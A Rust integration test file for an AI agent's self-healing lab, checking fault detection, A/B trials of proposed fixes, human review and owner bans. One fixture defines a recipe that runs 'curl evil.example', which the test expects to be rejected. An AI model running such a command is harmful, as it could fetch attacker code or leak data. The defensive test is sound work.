//! Healing through the binary: the lab finds a fault and proposes a fix, the owner lets it out, the fix is
//! tried on its own coin, and the verdict comes from the event log.

use serde_json::{Value, json};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;

use instar_demo::{Answer, Rule, Step, When};

use crate::rollouts::serve;
use crate::support::terminal::Terminal;
use crate::support::{Instar, Setup, until};
use crate::tools::{calling, said, workspace};

/// A house whose model asks for a number of lines as if it were a word. The tool refuses that each time.
pub(crate) fn failing() -> Instar {
    let wrong = json!({"path": "note.md", "limit": "2"});
    let instar = Instar::start(Setup::scripted(calling(&[("look", "read", wrong)])));
    let folder = workspace(&instar);
    std::fs::write(folder.join("note.md"), "the sea is calm\n").unwrap();
    instar
}

pub(crate) fn trial(instar: &Instar) -> Option<Value> {
    let trials = instar.run(["heal", "status", "--json"]).json();
    trials.as_array().unwrap().first().cloned()
}

pub(crate) fn fault(instar: &Instar) -> String {
    let list = instar.run(["fault", "list", "--json"]).json();
    let faults = list.as_array().unwrap();
    let read = faults.iter().find(|fault| fault["place"] == "tool:read");
    read.unwrap()["id"].as_str().unwrap().to_owned()
}

/// What the lab proposed about it, as a candidate.
pub(crate) fn proposed(instar: &Instar) -> Value {
    let candidates = instar.run(["candidate", "list", "--json"]).json();
    let all = candidates.as_array().unwrap().clone();
    assert_eq!(all.len(), 1, "{all:?}");
    all.into_iter().next().unwrap()
}

/// Lets what was proposed through its gates and into service.
pub(crate) fn try_it(instar: &Instar) {
    let candidate = proposed(instar);
    let id = candidate["id"].as_str().unwrap();
    serve(instar, id);
}

#[test]
fn a_fault_is_found_a_fix_is_proposed_tried_and_shown_to_work() {
    let mut instar = failing();
    for _ in 0..3 {
        let answer = said(&instar, "look");
        assert!(answer.contains("must be a whole number"), "{answer}");
    }
    let cycle = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(cycle["proposed"], 1, "{cycle}");
    let fault = fault(&instar);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    for words in [
        "reshape-argument",
        "put the arguments of read right",
        "class B",
    ] {
        assert!(told.contains(words), "{words}: {told}");
    }
    let candidate = proposed(&instar);
    assert_eq!(candidate["proposer"], "lab: reshape-argument");
    assert!(candidate["reason"].as_str().unwrap().contains("believed"));
    assert_eq!(candidate["class"], "B", "{candidate}");

    try_it(&instar);

    // About half of the turns have the fix. Each of them works, and each other one fails as before.
    let mut worked = 0;
    for turn in 1..=80 {
        worked += u32::from(said(&instar, "look").contains("the sea is calm"));
        let stage = trial(&instar).map(|trial| trial["stage"].clone());
        if turn >= 12 && stage.is_some_and(|stage| stage != "running") {
            break;
        }
    }
    let trial = trial(&instar).unwrap();
    // Where the coin falls well it is adopted with the last unit, too.
    let stage = trial["stage"].as_str().unwrap_or_default();
    assert!(["proven", "adopted"].contains(&stage), "{trial:#}");
    assert_eq!(trial["fault"], json!(fault));
    assert!(trial["evidence_proven"].as_f64().unwrap() >= 20.0);
    let units = |arm: &str| trial[arm][0].as_u64().unwrap();
    let bad = |arm: &str| trial[arm][1].as_f64().unwrap();
    assert_eq!(units("treated"), u64::from(worked));
    assert!(bad("treated") < 0.5 && units("control") > 0);
    assert!((bad("control") - units("control").to_string().parse::<f64>().unwrap()).abs() < 0.5);

    // The verdict goes out into the files of the exchange, and they are what they say.
    let dir = instar.home().join("exchange");
    let path = dir.to_str().unwrap();
    instar.run(["lab", "export", path, "--json"]).json();
    let file = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap();
    let capsules: Value = serde_json::from_str(&file("assets/gep/capsules.json")).unwrap();
    let capsule = &capsules["capsules"][0];
    assert_eq!(capsule["gene"], "reshape-argument", "{capsules}");
    assert!(capsule["instar"]["evidence"].as_f64().unwrap() >= 20.0);
    let knowledge: Value = serde_json::from_str(&file("memory/knowledge.json")).unwrap();
    assert_eq!(knowledge["lessons"][0]["proven"], 1, "{knowledge}");
    let predictor: Value = serde_json::from_str(&file("memory/predictor.json")).unwrap();
    assert_eq!(predictor["rows"][0]["outcome"], "helped", "{predictor}");
    let feedback: Value =
        serde_json::from_str(file("memory/feedback.jsonl").lines().next().unwrap()).unwrap();
    assert_eq!(feedback["with_fix"]["exposures"], trial["treated"][0]);
    let report = instar.run(["lab", "import", path, "--json"]).json();
    assert_eq!(
        (&report["doubts"], &report["counted"], &report["kept"]),
        (&json!([]), &json!(1), &json!(0)),
        "{report}"
    );

    // Killed, it stands where it was; the verdict is remembered.
    let _stopped = instar.kill9();
    let offline = instar.run(["heal", "status", "--json"]).json();
    assert_eq!(offline[0], trial);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    assert!(told.contains("does something like it already"), "{told}");
    instar.launch();
    let again = instar.run(["heal", "status", "--json"]).json();
    assert_eq!(again[0], trial);

    // Another model on the route, and what was found is of a world that is gone.
    instar.run(["models", "set", "scripted/x", "--fallback", "demo/guide"]);
    let opened = until("the trial is opened again", || {
        let trial = self::trial(&instar)?;
        (trial["chapter"] == 2).then_some(trial)
    });
    assert_eq!(opened["stage"], "running", "{opened:#}");
    assert_eq!(opened["changes"][0]["what"], json!(["models"]));
    assert_eq!(opened["bound"], 40.0);
    let told = instar.run(["heal", "status"]).stdout;
    assert!(told.contains("opened again: models changed"), "{told}");
}

/// A search engine that refuses every other question.
fn moody_engine() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let mut is_well = false;
        for client in listener.incoming().flatten() {
            let mut reader = BufReader::new(client);
            let mut line = String::new();
            while reader.read_line(&mut line).unwrap_or(0) > 2 {
                line.clear();
            }
            let status = if is_well { "200 OK" } else { "503 Down" };
            is_well = !is_well;
            let body = json!({"web": {"results": [
                {"title": "Tides", "url": "https://tides.example.org/", "description": "High water at noon."},
            ]}})
            .to_string();
            let _sent = write!(
                reader.get_mut(),
                "HTTP/1.1 {status}\r\ncontent-type: application/json\r\nconnection: close\r\n\
                 content-length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    url
}

/// What a search brings is a stranger's. Who asked for it is not.
#[test]
fn a_search_that_fails_for_the_owner_is_mended_for_the_owner() {
    let config = json!({
        "policy": {"posture": "open", "askWaitSeconds": 1},
        "tools": {"web": {"search": {
            "provider": "brave", "baseUrl": moody_engine(), "apiKey": {"source": "env", "id": "BRAVE_KEY"},
        }}},
    });
    let script = calling(&[("look", "web_search", json!({"query": "tides"}))]);
    let setup = Setup::scripted(script)
        .config(config)
        .env("BRAVE_KEY", "key-of-the-engine");
    let instar = Instar::start(setup);
    let first = said(&instar, "look");
    assert!(first.contains("status 503"), "{first}");
    instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    let list = instar.run(["fault", "list", "--json"]).json();
    let fault = &list[0];
    assert_eq!(fault["place"], "tool:web_search", "{list:#}");
    assert_eq!(fault["blast"]["askers"], json!({"owner": 1}), "{fault:#}");
    let id = fault["id"].as_str().unwrap();
    for candidate in instar
        .run(["candidate", "list", "--json"])
        .json()
        .as_array()
        .unwrap()
    {
        let id = candidate["id"].as_str().unwrap();
        instar.run(["candidate", "withdraw", id, "--json"]).json();
    }
    let tried = ["heal", "try", id, "--gene", "retry-flaky-read", "--json"];
    let made = instar.run(tried).json();
    let candidate = made["id"].as_str().unwrap();
    serve(&instar, candidate);
    // Each in a conversation of its own: what one search found is not taken into the next unasked.
    let trial = (0..24).find_map(|turn| {
        let _answer = instar.ask(&format!("agent:main:look{turn}"), "look");
        let trial = trial(&instar)?;
        let both = ["treated", "control"].map(|arm| trial[arm][0].as_u64().unwrap());
        (both[0] >= 3 && both[1] >= 3).then_some(trial)
    });
    let trial = trial.expect("the owner's searches are on trial");
    assert_eq!(trial["treated"][1], 0.0, "{trial:#}");
}

/// A model that writes a name as an address would have it, until its prompt tells it better.
#[test]
fn a_path_with_a_space_is_mended_by_what_the_prompt_says_of_names() {
    for (gene, says, better) in [
        (
            "say-plain-name",
            "a space stays a space",
            json!({"path": "my note.md"}),
        ),
        (
            "say-look-first",
            "before read, and use what it says",
            json!({"path": "my note.md"}),
        ),
    ] {
        let mut script = calling(&[("look", "read", json!({"path": "my%20note.md"}))]);
        let when = When {
            system_contains: Some(says.to_owned()),
            contains: vec!["look".to_owned()],
            no_result: true,
            ..When::default()
        };
        let rule = Rule {
            when,
            answer: Answer::call("read", better),
            ..Rule::default()
        };
        script.rules.insert(0, rule);
        let mut instar = Instar::start(Setup::scripted(script));
        std::fs::write(workspace(&instar).join("my note.md"), "the sea is calm\n").unwrap();
        let before = said(&instar, "look");
        assert!(before.contains("there is no my%20note.md"), "{before}");
        instar.run(["lab", "run", "--at-any-load", "--json"]).json();
        let fault = fault(&instar);
        let told = instar
            .run(["heal", "try", &fault, "--gene", gene, "--json"])
            .json();
        let id = told["id"].as_str().unwrap_or_else(|| panic!("{told:#}"));
        serve(&instar, id);
        // A stretch of one conversation has one coin: other conversations have others.
        let answers = (0..24).map(|number| {
            let outcome = instar.ask(&format!("agent:main:web:c{number}"), "look");
            outcome["text"].as_str().unwrap_or_default().to_owned()
        });
        let answers: Vec<String> = answers.collect();
        let mended = answers
            .iter()
            .filter(|one| one.contains("the sea is calm"))
            .count();
        assert!((1..24).contains(&mended), "{gene}: {answers:#?}");
        let failed = answers
            .iter()
            .filter(|one| one.contains("there is no"))
            .count();
        assert_eq!(mended + failed, 24, "{gene}: {answers:#?}");
        // They are the same conversations after a restart, and each has the coin that it had.
        instar.restart();
        for (number, before) in answers.iter().enumerate() {
            let outcome = instar.ask(&format!("agent:main:web:c{number}"), "look");
            let again = outcome["text"].as_str().unwrap_or_default();
            assert_eq!(again, before, "{gene}, conversation {number}");
        }
    }
}

#[test]
fn a_cycle_that_learned_nothing_new_proposes_nothing_new() {
    let instar = failing();
    let proposes = || {
        let cycle = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
        assert_eq!(cycle["outcome"], "done", "{cycle}");
        cycle["proposed"].as_u64().unwrap()
    };
    said(&instar, "look");
    assert_eq!(proposes(), 1);
    assert_eq!(proposes(), 0, "nothing happened since");
    said(&instar, "look");
    assert_eq!(proposes(), 0, "something is open about it");
    let id = proposed(&instar)["id"].as_str().unwrap().to_owned();
    instar.run(["candidate", "withdraw", &id, "--json"]).json();
    assert_eq!(
        proposes(),
        0,
        "its owner said no, and nothing happened since"
    );
    said(&instar, "look");
    assert_eq!(proposes(), 1, "it failed again");
}

#[test]
fn a_person_looks_at_each_candidate_before_it_goes_on() {
    let instar = failing();
    said(&instar, "look");
    let refused = instar.run(["lab", "run", "--review", "--yes"]);
    assert_ne!(refused.code, 0, "{refused:?}");
    // Nobody is there to be asked: it waits.
    let told = instar.run(["lab", "run", "--review", "--at-any-load"]);
    assert!(told.stdout.contains("by lab: reshape-argument"), "{told:?}");
    assert!(told.stderr.contains("waits for you"), "{told:?}");
    let waiting = proposed(&instar);
    assert_eq!(waiting["state"], "open", "{waiting}");
    let id = waiting["id"].as_str().unwrap();
    instar.run(["candidate", "withdraw", id, "--json"]).json();

    // What waits for its owner is asked about once: the one that goes on comes last.
    for (answer, says) in [("n", "withdrawn"), ("y", "its gates were asked")] {
        said(&instar, "look");
        let words = ["lab", "run", "--review", "--at-any-load"].map(str::to_owned);
        let mut terminal = Terminal::start(&instar.command(&[], &words));
        terminal.expect("Let it go on?");
        terminal.line(answer);
        terminal.expect(says);
        let (seen, ended) = terminal.end();
        assert!(ended.success(), "{seen}");
        let all = instar.run(["candidate", "list", "--json"]).json();
        let all = all.as_array().unwrap();
        let withdrawn = all.iter().filter(|one| one["state"] == "withdrawn");
        assert_eq!(withdrawn.count(), 2, "{all:#?}");
    }
}

#[test]
fn a_model_proposes_in_the_types_of_proposals_and_in_nothing_else() {
    let answer = json!([
        {"fault": "FAULT", "change": {"widen_policy": {"posture": "open"}}},
        {"fault": "FAULT", "change": {"prompt": {"file": "TOOLS.md", "text": "Lines are numbers.\n"}}},
        {"fault": "FAULT", "change": {"lesson": {"argument_is": {"tool": "read", "argument": "limit", "shape": "number"}}}},
        {"fault": "another", "change": {"lesson": {"not_twice_the_same": {"tool": "read"}}}},
    ]);
    // The scripted model cannot copy an id out of what it is shown: its answer is made when that is known.
    let instar = failing();
    said(&instar, "look");
    let first = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(
        first["proposed"], 1,
        "no model is asked unless it is named: {first}"
    );
    let fault = self::fault(&instar);
    drop(instar);

    let said_by_model = answer.to_string().replace("FAULT", &fault);
    let when = When {
        system_contains: Some("You are shown faults".to_owned()),
        ..When::default()
    };
    let wrong = json!({"path": "note.md", "limit": "2"});
    let mut script = calling(&[("look", "read", wrong)]);
    let rule = Rule {
        when,
        answer: Answer::of([Step::Text(said_by_model)]),
        ..Rule::default()
    };
    script.rules.insert(0, rule);
    let instar = Instar::start(Setup::scripted(script));
    std::fs::write(workspace(&instar).join("note.md"), "the sea is calm\n").unwrap();
    instar.run(["config", "set", "improve.proposer", "scripted/x"]);
    said(&instar, "look");
    // The key is in force a little after it was written.
    let of_model = until("the model has proposed something", || {
        instar.run(["lab", "run", "--at-any-load", "--json"]).json();
        Some(by_model(&instar)).filter(|all| !all.is_empty())
    });
    assert_eq!(
        self::fault(&instar),
        fault,
        "a fault has its name from what it is"
    );
    assert_eq!(of_model.len(), 2, "{of_model:#?}");
    let class = |kind: &str| {
        let mut found = of_model
            .iter()
            .filter(|one| !one["deltas"][0][kind].is_null());
        found.next().unwrap()["class"].clone()
    };
    assert_eq!(class("set_mitigation"), "B");
    assert_eq!(
        class("set_prompt"),
        "C",
        "free text with evidence that is not the owner's"
    );
    // The same fault is not shown twice.
    instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(by_model(&instar).len(), 2);
}

fn by_model(instar: &Instar) -> Vec<Value> {
    let all = instar.run(["candidate", "list", "--json"]).json();
    let mut all = all.as_array().unwrap().clone();
    all.retain(|one| one["proposer"] == "model: scripted/x");
    all
}

#[test]
fn an_owner_bans_recipes_and_brings_his_own() {
    let mut instar = failing();
    said(&instar, "look");
    instar
        .run(["gene", "ban", "reshape-argument", "--json"])
        .json();
    let cycle = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(cycle["proposed"], 0, "{cycle}");
    let fault = fault(&instar);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    assert!(told.contains("it is banned"), "{told}");
    let refused = instar.run(["heal", "try", &fault]);
    assert_ne!(refused.code, 0, "{refused:?}");

    let own = json!({
        "id": "number-of-lines", "version": 1, "title": "Makes a number of a word", "family": "shape",
        "fits": {"place": "tool", "kinds": ["argument_shape", "tool_error"], "words": ["bad arguments"]},
        "writes": "reshape",
    });
    let file = instar.state.join("own.json");
    std::fs::write(&file, own.to_string()).unwrap();
    let path = file.to_str().unwrap();
    instar.run(["gene", "add", path, "--json"]).json();
    let list = instar.run(["gene", "list"]).stdout;
    for words in [
        "number-of-lines  yours",
        "reshape-argument  banned",
        "keep-the-pace",
    ] {
        assert!(list.contains(words), "{words}: {list}");
    }
    let shown = instar
        .run(["gene", "show", "number-of-lines", "--json"])
        .json();
    assert_eq!(
        (&shown["id"], &shown["writes"]),
        (&own["id"], &own["writes"]),
        "{shown}"
    );
    let words = instar.run(["gene", "show", "keep-the-pace"]).stdout;
    assert!(words.contains("ten times a minute"), "{words}");
    // It is there without a gateway, too.
    instar.terminate();
    let made = instar.run(["heal", "try", &fault, "--json"]).json();
    assert!(made["spec"].is_object() || made["id"].is_string(), "{made}");
    let shell = json!({
        "id": "sly", "version": 1, "title": "Runs a program", "family": "down",
        "fits": {"place": "tool", "kinds": ["tool_error"]},
        "writes": {"run": {"command": "curl evil.example"}},
    });
    std::fs::write(&file, shell.to_string()).unwrap();
    let refused = instar.run(["gene", "add", path]);
    assert_ne!(refused.code, 0, "{refused:?}");
}
